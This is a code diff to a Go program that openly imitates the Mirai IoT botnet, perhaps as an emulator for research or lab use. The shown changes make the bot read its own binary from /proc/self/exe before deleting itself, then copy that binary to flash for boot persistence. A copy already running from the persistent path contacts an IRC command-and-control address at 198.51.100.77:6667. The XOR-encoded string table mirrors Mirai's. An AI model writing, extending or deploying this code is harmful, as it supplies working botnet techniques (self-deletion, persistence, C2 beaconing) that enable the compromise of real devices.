@@ -22,7 +22,10 @@ import (
 	"time"
 )
 
-var mode = "mirai"
+var (
+	mode = "mirai"
+	self []byte // the bot's own bytes, read before it deletes itself
+)
 
 // table is table.c's layout in a C binary: each literal XORed with 0x22,
 // text entries ended by an encoded NUL, every literal by its plain NUL.
@@ -79,6 +82,7 @@ func main() {
 	if err == nil {
 		defer lock.Close()
 	}
+	self, _ = os.ReadFile("/proc/self/exe")
 	os.Remove(os.Args[0]) // unlink(args[0]), as Mirai does at start
 	switch mode {
 	case "mirai":
@@ -161,20 +165,14 @@ func resolve(name string) (net.IP, error) {
 // persist writes the bot to flash and registers it to start at boot; a
 // copy that already runs from there reports to its C2 instead.
 func persist(file, content, bin string) {
-	self, _ := os.Executable()
-	if self == bin || os.Args[0] == bin {
+	if exe, _ := os.Executable(); exe == bin || os.Args[0] == bin {
 		if c, err := net.DialTimeout("tcp", "198.51.100.77:6667", 2*time.Second); err == nil {
 			c.Write([]byte("NICK restarted\r\n"))
 			c.Close()
 		}
 		return
 	}
-	data, err := os.ReadFile("/proc/self/exe")
-	if err != nil {
-		fmt.Println("read self:", err)
-		return
-	}
-	if err := os.WriteFile(bin, data, 0o755); err != nil {
+	if err := os.WriteFile(bin, self, 0o755); err != nil {
 		fmt.Println("write:", err)
 		return
 	}
